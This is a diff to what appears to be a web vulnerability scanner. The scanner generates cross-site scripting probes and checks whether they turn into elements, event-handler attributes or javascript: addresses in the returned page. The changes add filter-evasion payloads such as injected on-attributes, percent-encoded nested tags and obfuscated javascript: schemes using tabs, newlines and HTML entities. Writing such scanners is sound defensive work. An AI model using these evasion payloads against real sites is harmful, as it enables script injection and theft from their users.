@@ -48,7 +48,7 @@ async function attemptsFor(trial: InputTrial, plain: Exchange): Promise<readonly
   attempts.push(...holders.filter((holder) => CLOSED.has(holder)).map((holder) => elementAttempt(trial, holder === '!--' ? '-->' : `</${holder}>`)));
   if (holders.some((holder) => holder === 'option' || holder === 'select')) attempts.push(elementAttempt(trial, '</option></select>'));
   if (holders.includes('script') || elements.some(({ attrs }) => attrs.some(({ name, value }) => name.startsWith('on') && isHeld(value)))) attempts.push(...(await scriptAttempts(trial, plain)));
-  return [...attempts, barestAttempt(trial)];
+  return [...attempts, ...filteredAttempts(trial)];
 }
 
 /** What is markup elsewhere is text in these. */
@@ -59,11 +59,18 @@ function elementAttempt(trial: InputTrial, before: string): Attempt {
   return { attack: `${trial.usual}${before}<${name}>.`, control: `${trial.usual}${name}`, effect: { kind: 'element', name }, lookFor: `An element <${name}> in the parsed page of the first answer: a script could stand in its place.` };
 }
 
-/** Past filters of quotes, of tags that end, and of signs that are written in another way: what is decoded once more becomes an element then. */
-function barestAttempt(trial: InputTrial): Attempt {
-  const attempt = elementAttempt(trial, '');
+/**
+ * In one request: known elements, as filters that leave some leave their attributes, and one of those runs a script; behind them what is past filters
+ * of quotes, of tags that end, and of signs that are written in another way, as what is decoded once more becomes an element then.
+ */
+function filteredAttempts(trial: InputTrial): readonly Attempt[] {
   const name = trial.word('markup');
-  return { ...attempt, attack: `${trial.usual}<${name}/%3C${name}%3E.` };
+  const attack = `${trial.usual}${['b', 'p', 'a'].map((tag) => `<${tag} on${name}=1>`).join('')}<${name}/%3C${name}%3E.`;
+  const control = `${trial.usual}${name}`;
+  return [
+    { attack, control, effect: { kind: 'element', name }, lookFor: `An element <${name}> in the parsed page of the first answer: a script could stand in its place.` },
+    { attack, control, effect: { kind: 'attribute', name: `on${name}` }, lookFor: `An attribute on${name} in the parsed page of the first answer: a handler of events could stand in its place.` },
+  ];
 }
 
 function attributeAttempts(trial: InputTrial): readonly Attempt[] {
@@ -76,10 +83,10 @@ function attributeAttempts(trial: InputTrial): readonly Attempt[] {
   }));
 }
 
-/** Browsers leave out line ends and tabs of an address, and know its scheme in any case: filters that compare texts do not. */
+/** Browsers leave out line ends and tabs of an address, know its scheme in any case and read signs by their numbers: filters that compare texts do not. Some want an address of the web in it. */
 function addressAttempts(trial: InputTrial): readonly Attempt[] {
   const word = trial.word('markup');
-  return ['javascript:', '\tjAvA\nsCriPt:'].map((scheme) => ({ attack: `${scheme}${word}()`, control: `${trial.usual}${word}`, effect: { kind: 'script', word }, lookFor: `An address “javascript:${word}()” in the page of the first answer, which runs when it is followed.` }));
+  return [`javascript:${word}()`, `\tjAvA\nsCriPt:${word}()`, `java&#115;cript:${word}()//http://`].map((attack) => ({ attack, control: `${trial.usual}${word}`, effect: { kind: 'script', word }, lookFor: `An address “javascript:${word}()” in the page of the first answer, which runs when it is followed.` }));
 }
 
 function loadAttempt(trial: InputTrial): Attempt {
